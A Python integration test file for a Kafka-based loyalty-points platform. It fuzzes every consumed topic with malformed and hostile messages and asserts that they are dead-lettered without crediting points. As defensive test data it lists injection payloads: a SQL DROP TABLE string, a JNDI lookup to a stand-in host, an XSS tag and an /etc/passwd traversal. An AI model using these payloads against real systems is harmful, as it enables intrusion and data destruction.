"""Hostile input on every consumed topic: each bad message is dead-lettered with a reason,
no consumer stops, and nothing reaches a ledger.

Hypothesis builds the messages from each topic's committed example: a key dropped, a
value of the wrong type, huge strings and numbers, negative and zero amounts, unknown enum
values, SQL and format-string injection, control characters; plus bytes that are not JSON,
not UTF-8, not an object, or nested past any parser's limit. Only messages the topic's
contract rejects are sent (the contract decides, so the filter cannot hide a bad payload);
each goes to every service that consumes its topic, which must dead-letter it.

All of them are about one registered programme member, so a message that slipped through
would earn, post or redeem for them; the test then checks that nothing did, and that a valid
transaction sent last is processed by every hop, i.e. that no consumer stopped.
"""

from __future__ import annotations

import json
from collections import Counter
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from contracts.registry import TOPICS
from shared.infra.embedded import Endpoints
from shared.messaging.consumer import NUL_REASON
from shared.settings import SERVICES
from tests.support import messages as m
from tests.support.db import eventually, fetchval, wallet_points
from tests.support.kafka import Bank, header, read_topic

pytestmark = [pytest.mark.integration, pytest.mark.e2e]

EXAMPLES = Path(__file__).parents[2] / "contracts" / "examples"
PER_TOPIC = 16

INJECTIONS = (
    "'; DROP TABLE redemption.accounts; --",
    '" OR 1=1 --',
    "%s%s%s%n%x",
    "{0.__class__.__mro__}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "\x07\x1b[2J\x7f",
    "../../../../etc/passwd",
)
WRONG_TYPES: tuple[Any, ...] = ([], {}, 1.5, "1", True, None, [1, 2], {"$gt": ""})
HUGE: tuple[Any, ...] = ("A" * 100_000, 10**40, -(10**40), 2**63, 1e308)
AMOUNTS: tuple[Any, ...] = (0, -1, -250_000, "-1")
RAW: tuple[bytes, ...] = (
    b"",
    b"{",
    b'{"message_id": "x", ',
    b"\xff\xfe\x00\x00",
    b'{"descriptor": "\xc3\x28"}',  # not UTF-8
    b"[]",
    b"null",
    b"42",
    b'"just a string"',
    b"[" * 5_000 + b"]" * 5_000,
    b"{}",
)


def _consumed() -> list[str]:
    """Topics that at least one of our services consumes."""
    return [t.name for t in TOPICS.values() if set(t.consumers) & set(SERVICES)]


def _example(topic: str) -> dict[str, Any]:
    path = min((EXAMPLES / topic).glob("*.json"))
    payload: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    return payload


def _mutation(base: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    fields = sorted(base)
    amount_like = [f for f in fields if f.endswith(("cents", "points")) or f == "points"]
    drop = st.sampled_from(fields).map(lambda f: {k: v for k, v in base.items() if k != f})

    def put(values: tuple[Any, ...], among: list[str]) -> st.SearchStrategy[dict[str, Any]]:
        return st.tuples(st.sampled_from(among), st.sampled_from(values)).map(
            lambda fv: {**base, fv[0]: fv[1]}
        )

    choices = [
        drop,
        put(WRONG_TYPES, fields),
        put(HUGE, fields),
        put(INJECTIONS, fields),
        put(("bogus_value", "APPROVED ", ""), fields),
        st.fixed_dictionaries({}).map(lambda _: {**base, "unexpected_field": "x" * 10_000}),
    ]
    if amount_like:
        choices.append(put(AMOUNTS, amount_like))
    return st.one_of(choices)


def _hostile_messages(topic: str, customer: str) -> list[bytes]:
    """Messages the topic's contract rejects, about `customer`, each with its own id."""
    model = TOPICS[topic].latest
    base = _example(topic)
    if "customer_no" in base:
        base["customer_no"] = customer
    found: list[dict[str, Any]] = []

    @settings(
        max_examples=PER_TOPIC * 4,
        derandomize=True,
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(_mutation(base))
    def collect(payload: dict[str, Any]) -> None:
        if payload.get("message_id") == base.get("message_id"):
            payload = {**payload, "message_id": m.new_id("hostile")}
        found.append(payload)

    collect()
    rejected: list[bytes] = []
    for payload in found:
        raw = orjson.dumps(payload, option=orjson.OPT_NON_STR_KEYS) if _dumpable(payload) else b""
        if not raw:
            continue
        try:
            model.model_validate_json(raw)
        except ValidationError:
            rejected.append(raw)
        if len(set(rejected)) >= PER_TOPIC:
            break
    return sorted(set(rejected))


def _dumpable(payload: dict[str, Any]) -> bool:
    try:
        orjson.dumps(payload)
    except (TypeError, orjson.JSONEncodeError):
        return False
    return True


async def test_hostile_messages_on_every_consumed_topic_are_dead_lettered_and_harmless(
    platform, endpoints: Endpoints, pg_admin_url: str
) -> None:
    victim = m.customer_no()
    sent: dict[str, list[bytes]] = {}
    for topic in _consumed():
        mutated = _hostile_messages(topic, victim)
        assert len(mutated) == PER_TOPIC, f"{topic}: {len(mutated)} rejected mutations generated"
        sent[topic] = mutated + list(RAW)

    key = f"hostile-{victim}"
    async with Bank(endpoints.kafka_bootstrap) as bank:
        await bank.publish("esb.customer.updated.v1", m.customer_created(victim), victim)
        for topic, messages in sent.items():
            for raw in messages:
                await bank.publish(topic, raw, key)
        # Last, a valid purchase by someone else: every hop must still be consuming.
        witness = m.customer_no()
        await bank.publish("esb.customer.updated.v1", m.customer_created(witness), witness)
        await bank.publish("esb.card.transaction.v1", m.card_posted(witness, 40_000), witness)

    witness_points = await eventually(
        wallet_points(pg_admin_url, witness),
        lambda b: b == 40,
        timeout=120,
    )
    assert witness_points == 40

    for topic, messages in sent.items():
        consumers = sorted(set(TOPICS[topic].consumers) & set(SERVICES))
        dead = await read_topic(
            endpoints.kafka_bootstrap,
            TOPICS[topic].dlq,
            lambda r: r.key == key.encode(),
            expect=len(messages) * len(consumers),
            timeout=90,
        )
        # A service may run more consumers (customer_profile's miners, which read topics of
        # other services' too): `customer_profile.miner.tiers` dead-letters its copy as well.
        by_service = Counter(header(r, "dlq.service") for r in dead)
        for service in consumers:
            assert by_service.pop(service, 0) == len(messages), (topic, service, by_service)
        for extra, count in by_service.items():
            assert str(extra).split(".")[0] in SERVICES, (topic, extra)
            assert count == len(messages), (topic, extra, count)
        for record in dead:
            assert record.value in messages
            assert header(record, "dlq.source_topic") == topic
            reason = header(record, "dlq.reason") or ""
            assert reason.split(":")[0] in {"invalid_json", "schema_violation"}, reason

    for sql in (
        "SELECT count(*) FROM accrual.earnings WHERE customer_no = $1",
        "SELECT count(*) FROM redemption.lots WHERE customer_no = $1",
        "SELECT count(*) FROM redemption.journal_transactions WHERE customer_no = $1",
        "SELECT count(*) FROM redemption.redemptions WHERE customer_no = $1",
        (
            "SELECT COALESCE(SUM(abs(balance)) + SUM(held), 0) FROM redemption.accounts "
            "WHERE customer_no = $1"
        ),
    ):
        assert await fetchval(pg_admin_url, sql, victim) == 0, sql
    assert await fetchval(pg_admin_url, "SELECT count(*) FROM redemption.accounts") is not None


async def test_injection_in_free_text_is_stored_as_text_and_a_nul_is_refused(
    platform, endpoints: Endpoints, pg_admin_url: str
) -> None:
    customer = m.customer_no()
    nul = m.card_posted(customer, 990_000, descriptor="WOOLWORTHS\x00SANDTON")
    async with Bank(endpoints.kafka_bootstrap) as bank:
        await bank.publish("esb.customer.updated.v1", m.customer_created(customer), customer)
        await bank.publish("esb.card.transaction.v1", nul, customer)
        for number, text in enumerate(INJECTIONS):
            purchase = m.card_posted(customer, 10_000 * (number + 1), descriptor=text[:40])
            await bank.publish("esb.card.transaction.v1", purchase, customer)
    expected = sum(10 * (number + 1) for number in range(len(INJECTIONS)))
    points = await eventually(
        wallet_points(pg_admin_url, customer),
        lambda b: b == expected,
        timeout=120,
    )
    assert points == expected
    # Postgres text cannot hold NUL: refused at the door with a reason, not retried forever.
    dead = await read_topic(
        endpoints.kafka_bootstrap,
        "esb.card.transaction.v1.dlq",
        lambda r: r.key == customer.encode(),
    )
    assert [orjson.loads(r.value or b"")["transaction_id"] for r in dead] == [nul["transaction_id"]]
    assert header(dead[0], "dlq.reason") == NUL_REASON
    stored = await fetchval(
        pg_admin_url,
        "SELECT count(DISTINCT source_transaction_id) FROM accrual.earnings WHERE customer_no = $1",
        customer,
    )
    assert stored == len(INJECTIONS)
